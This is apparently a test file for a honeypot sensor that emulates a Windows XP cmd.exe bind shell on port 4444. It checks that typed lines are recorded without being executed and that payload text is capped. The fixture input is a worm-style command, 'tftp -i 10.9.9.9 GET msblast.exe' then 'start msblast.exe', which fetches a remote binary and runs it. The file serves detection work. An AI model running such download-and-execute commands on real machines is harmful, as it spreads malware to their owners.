// The 4444 bind-shell persona: a cmd.exe banner and prompt (text only), every typed line recorded
// as a PayloadEvent, nothing executed, the text cap enforced.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { startSensor, openClient, readBytes, readAll, waitFor } from './sensor-harness.js';
import { printable } from '../../src/sensor/responders/shell-responder.js';
import type { PayloadEvent } from '../../src/model/event.js';

test('printable keeps ASCII and escapes everything else', () => {
  assert.equal(printable(Buffer.from('dir C:\\\x00\xff\t', 'latin1')), 'dir C:\\\\\\x00\\xff\\t');
});

test('worm commands typed on 4444 become PayloadEvents; the reply is only prompts', async () => {
  const h = await startSensor({ persona: { os: 'windows-xp-sp1' } });
  try {
    const c = await openClient(h.port(4444));
    const banner = (await readBytes(c, 20)).toString('latin1');
    assert.match(banner, /^Microsoft Windows XP \[Version 5\.1\.2600\]/);
    c.write('tftp -i 10.9.9.9 GET msblast.exe\r\nstart msblast');
    c.write('.exe\n');
    c.end('partial line without newline');
    const rest = (await readAll(c)).data.toString('latin1');
    assert.equal(rest.replace(/\r\nC:\\WINDOWS\\system32>/g, ''), '', 'nothing but prompts is sent back');
    const session = await waitFor('session', () => h.sink.sessions.find((s) => s.dport === 4444));
    const texts = h.sink.events.filter((e): e is PayloadEvent => e.type === 'payload').map((e) => e.text);
    assert.deepEqual(texts, ['tftp -i 10.9.9.9 GET msblast.exe', 'start msblast.exe', 'partial line without newline']);
    assert.equal(session.service, 'shell');
    assert.ok(h.sink.events.filter((e) => e.type === 'payload').every((e) => e.session === session.id));
  } finally {
    await h.stop();
  }
});

test('max_payload_event_chars caps the text carried in events', async () => {
  const h = await startSensor({ limits: { maxPayloadEventChars: 10 }, persona: { shellBanner: false } });
  try {
    const c = await openClient(h.port(4444));
    c.end('0123456789ABCDEF\nmore\n');
    await readAll(c);
    const s = await waitFor('session', () => h.sink.sessions.find((x) => x.dport === 4444));
    const texts = h.sink.events.filter((e): e is PayloadEvent => e.type === 'payload').map((e) => e.text);
    assert.deepEqual(texts, ['0123456789']);
    assert.ok(s.limitsHit.includes('max_payload_event_chars'));
    assert.equal(s.bytesOut, 0, 'shellBanner false: nothing at all is sent');
  } finally {
    await h.stop();
  }
});
